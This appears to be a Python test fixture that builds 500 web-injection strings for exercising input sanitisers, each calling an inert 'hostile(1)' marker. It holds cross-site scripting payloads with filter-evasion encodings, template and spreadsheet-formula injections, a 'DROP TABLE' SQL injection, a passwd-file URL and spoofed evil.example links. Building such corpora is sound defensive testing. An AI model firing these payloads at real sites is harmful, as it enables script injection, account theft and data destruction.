"""Five hundred texts that would do harm where they are taken for more than text. What runs of them calls `hostile`."""

from itertools import islice, product

NUMBER = 500
CALL = "hostile(1)"

_SCRIPTS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT >",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script/x>{}</script>",
    "<script>{}//",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:parent.{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<form action='javascript:{}'><button autofocus>Go",
    "<link rel=stylesheet href='javascript:{}'>",
    "<x style='animation-name:x' onanimationstart={}>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    r"\u003cscript\u003e{}\u003c/script\u003e",
    r"\x3cscript\x3e{}\x3c/script\x3e",
    "＜script＞{}＜/script＞",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    "`><img src=x onerror={}>",
    '" onfocus={} autofocus x="',
    "' onmouseover='{}' x='",
)

_TAGS = ("img", "svg", "body", "input", "video", "audio", "details", "marquee", "a", "button", "select", "x")
_HANDLERS = (
    "onerror={call} src=x",
    "onload={call}",
    "onfocus={call} autofocus tabindex=1",
    "ontoggle={call} open",
    "onmouseover='{call}'",
    'onclick="{call}"',
    "onpointerenter={call}",
    "onanimationend={call}",
    "/onerror={call}/src=x",
    "\nonerror\n=\n{call}\nsrc=x",
    "\tonerror={call}\tsrc=x\0",
)

_SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "java\0script:{}",
    "javascript&colon;{}",
    "javascript&#58;{}",
    "javascript://shop.example/%0a{}",
    "https://shop.example/\njavascript:{}",
    "view-source:javascript:{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKDEpPC9zY3JpcHQ+",
    "blob:https://shop.example/{}",
    "file:///etc/passwd#{}",
    "feed:javascript:{}",
    "//shop.example/<script>{}</script>",
    "https://shop.example@evil.example/{}",
    "https://evil.example\\@shop.example/{}",
    "https://shop.example/\"onmouseover='{}'",
    "https://shop.example/'><img src=x onerror={}>",
    "http://[::1]:1/<svg onload={}>",
    "https://ｅｖｉｌ.example/{}",
    "https://xn--80ak6aa92e.example/{}",
)
_LINKS = ("{}", "<a href='{}'>Look</a>", "[Look]({})", "<{}>", "See {} now", "![]({})")

_TEMPLATES = (
    "{{{{{}}}}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "{{% {} %}}",
    "[[{}]]",
    "{{@html `<img src=x onerror={}>`}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{#if {}}}{{/if}}",
    "$(hostile)",
    "`{}`",
    "*|{}|*",
    "@{{{}}}",
    "<?php {} ?>",
    "=cmd|'{}'!A1",
    '";{};//',
    "';{};//",
    "\\';{};//",
    "*/{};/*",
    "</{}>",
)

_SHAPES = (
    "\u202e<script>{}</script>\u202c",
    "\u2066\u202e{}\u2069",
    "\u200f<img src=x onerror={}>",
    "\ufeff{}",
    "\u200b<scr\u200bipt>{}",
    "\0<script>{}</script>",
    "<scr\0ipt>{}</scr\0ipt>",
    "\x08\x08\x08{}",
    "\x1b[31m{}",
    "\u2028{}\u2029",
    "\r\n\r\n<script>{}</script>",
    "\ufffe\uffff{}",
    "A" * 400 + "{}",
    "A" * 100 + "<img src=x onerror={}>" + "B" * 100,
    "ب" * 200 + "{}",
    "Z\u0351\u0343\u0313" * 60 + "{}",
    "👩‍👩‍👧‍👦" * 20 + "{}",
    "<" * 200 + "{}",
    "<b>" * 60 + "{}",
    "__proto__",
    "constructor",
    "toString",
    "null",
    "{{}}",
    '{{"type":"message","text":"{}"}}',
    "' OR 1=1; DROP TABLE users; --",
)


def _all() -> list[str]:
    texts = [text.format(CALL) for text in (*_SCRIPTS, *_TEMPLATES, *_SHAPES)]
    texts += [link.format(scheme.format(CALL)) for link, scheme in product(_LINKS, _SCHEMES)]
    texts += [f"<{tag} {handler.format(call=CALL)}>" for tag, handler in product(_TAGS, _HANDLERS)]
    texts += [f'"><{tag} {handler.format(call=CALL)}>' for tag, handler in product(_TAGS, _HANDLERS)]
    return list(islice(dict.fromkeys(texts), NUMBER))


TEXTS = _all()
